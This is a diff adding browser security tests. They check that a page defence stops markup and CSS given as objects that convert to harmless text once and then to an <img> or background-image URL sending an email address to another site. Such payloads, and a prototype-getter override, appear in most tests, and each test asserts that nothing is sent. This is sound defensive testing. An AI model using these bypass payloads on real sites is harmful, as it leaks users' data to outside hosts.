@@ -185,3 +185,82 @@ describe('addresses set on elements, whose values convert differently the second
     expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
   });
 });
+
+describe('markup and CSS whose values convert differently the second time', function () {
+  this.timeout(20_000);
+
+  // A box the page's markup and styles go into: drawn, so a background picture set on it loads.
+  const boxPage = `${page}<div id="out" style="width:60px;height:40px"></div>`;
+  const out = () => document.querySelector<HTMLElement>('#out')!;
+  const picture = () => `<img src="${sink.url('/p.gif?email=ada@example.com')}">`;
+  const background = () => `url(${sink.url('/bg.png?email=ada@example.com')})`;
+  const attackWith = (send: (root: HTMLElement) => unknown) => attack({ page: boxPage, setup: (root) => onSave(() => send(root))(root) });
+  const nothingSent = async () => expect(await sink.received(800), 'what reached the other site').to.deep.equal([]);
+
+  it('innerHTML set to an object whose text is harmless markup once and a picture of another site after', async () => {
+    await attackWith(() => (out().innerHTML = shifty('<b>Saved</b>', picture) as never));
+    await nothingSent();
+  });
+
+  it('insertAdjacentHTML of such an object', async () => {
+    await attackWith(() => out().insertAdjacentHTML('beforeend', shifty('<b>Saved</b>', picture) as never));
+    await nothingSent();
+  });
+
+  it("a style property set to an object whose text is 'none' once and another site's picture after", async () => {
+    await attackWith(() => (out().style.backgroundImage = shifty('none', background) as never));
+    await nothingSent();
+  });
+
+  it('cssText set to such an object', async () => {
+    await attackWith(() => (out().style.cssText = shifty('color: red', () => `background-image: ${background()}`) as never));
+    await nothingSent();
+  });
+
+  it('setProperty with such a value', async () => {
+    await attackWith(() => out().style.setProperty('background-image', shifty('none', background) as never));
+    await nothingSent();
+  });
+
+  it("a sheet's insertRule of such a rule", async () => {
+    await attackWith((root) => {
+      const style = root.appendChild(document.createElement('style'));
+      style.sheet!.insertRule(shifty('#out { color: red }', () => `#out { background-image: ${background()} }`) as never);
+    });
+    await nothingSent();
+  });
+
+  it("a <style>'s text set to such an object", async () => {
+    await attackWith((root) => (root.appendChild(document.createElement('style')).textContent = shifty('#out { color: red }', () => `#out { background-image: ${background()} }`) as never));
+    await nothingSent();
+  });
+
+  it("Typed OM's set with such a value", async function () {
+    if (!('attributeStyleMap' in HTMLElement.prototype)) this.skip(); // an engine without Typed OM's attributeStyleMap (Firefox ESR, and WebKitGTK here)
+    await attackWith(() => (out() as HTMLElement & { attributeStyleMap: { set(name: string, value: unknown): void } }).attributeStyleMap.set('background-image', shifty('none', background)));
+    await nothingSent();
+  });
+
+  it("a text node appended to a <style>, whose text the page's Node.prototype getter calls harmless", async () => {
+    const rule = () => `#out { background-image: ${background()} }`;
+    let node: Text | undefined;
+    const before = Object.getOwnPropertyDescriptor(Node.prototype, 'textContent')!;
+    await redefining(Node.prototype, 'textContent', { get(this: Node) {
+      return this === node ? '#out { color: red }' : before.get!.call(this);
+    } }, () => attackWith((root) => {
+      const style = root.appendChild(document.createElement('style'));
+      node = document.createTextNode(rule());
+      style.appendChild(node);
+    }));
+    await nothingSent();
+  });
+
+  it('markup and CSS given as objects that convert the same every time still go in, as the browser would put them', async () => {
+    await attackWith(() => {
+      out().innerHTML = { toString: () => '<b id="saved">Saved</b>' } as never;
+      out().style.setProperty('color', { toString: () => 'rgb(0, 128, 0)' } as never);
+    });
+    expect(out().querySelector('#saved')?.textContent).to.equal('Saved');
+    expect(getComputedStyle(out()).color).to.equal('rgb(0, 128, 0)');
+  });
+});
